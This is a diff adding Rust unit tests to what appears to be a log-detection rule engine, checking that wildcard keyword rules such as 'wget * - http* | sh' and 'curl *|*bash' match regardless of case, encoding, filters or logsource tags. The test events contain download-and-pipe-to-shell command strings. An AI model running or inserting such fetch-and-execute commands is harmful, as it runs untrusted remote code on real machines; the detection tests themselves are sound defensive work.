@@ -233,6 +233,79 @@ fn keyword_all_requires_every_value() {
     assert!(!p.matches(json!({"message": "Set-Thing -ExternalUrl 'http://evil'"})));
 }
 
+/// Rules that can only match through wildcard keywords are evaluated only when a literal
+/// part of a keyword is in the event (the keyword gate): the results must be those of a full
+/// evaluation, whatever the case, the encoding or the rest of the condition.
+#[test]
+fn wildcard_keyword_rules_match_as_without_the_gate() {
+    let p = rules(&[
+        (
+            "pipe",
+            "
+            keywords:
+              - 'wget * - http* | sh'
+              - 'curl *|*bash'
+            filter:
+              message|contains: 'apt-get'
+            condition: keywords and not filter
+            ",
+        ),
+        (
+            "field",
+            "
+            sel:
+              process.name: 'wget'
+            condition: sel
+            ",
+        ),
+    ]);
+    assert_eq!(
+        p.hits(json!({"message": "WGET -q - HTTP://198.51.100.7/x | SH"})),
+        ["pipe"]
+    );
+    // Non-ASCII text around the keyword: folded before the search, as the engine does.
+    assert_eq!(
+        p.hits(json!({"message": "Ärger: CURL -s http://x/é.sh | BASH"})),
+        ["pipe"]
+    );
+    // The literal parts are there but not in the keyword's order: no match.
+    assert!(p
+        .hits(json!({"message": "sh | wget x - http://y"}))
+        .is_empty());
+    // The filter still applies to a rule the gate lets through.
+    assert!(p
+        .hits(json!({"message": "apt-get: wget x - http://y | sh"}))
+        .is_empty());
+    // Without message or event.original, every string value is searched, numbers included.
+    assert_eq!(
+        p.hits(json!({"process": {"name": "wget", "command_line": "wget a - http://b | sh"}})),
+        ["field", "pipe"]
+    );
+    assert_eq!(p.hits(json!({"process": {"name": "wget"}})), ["field"]);
+}
+
+/// A gated rule keeps its logsource: an event tagged for another source never reaches it.
+#[test]
+fn wildcard_keyword_rules_keep_their_logsource() {
+    let p = load_files(&[(
+        "r.yml",
+        "
+        title: r
+        id: r
+        logsource: {product: linux, service: sshd}
+        detection:
+          keywords: ['Accepted * for root']
+          condition: keywords
+        ",
+    )]);
+    p.assert_clean();
+    let line = "Accepted password for root from 10.0.0.9";
+    let tagged = |service: &str| json!({"message": line, "vigie": {"logsource": {"product": "linux", "service": service}}});
+    assert_eq!(p.hits(tagged("sshd")), ["r"]);
+    assert!(p.hits(tagged("cron")).is_empty());
+    assert_eq!(p.hits(json!({ "message": line })), ["r"]);
+}
+
 // ---------------------------------------------------------------------------------------------
 // Values: null, arrays, numbers, case
 // ---------------------------------------------------------------------------------------------
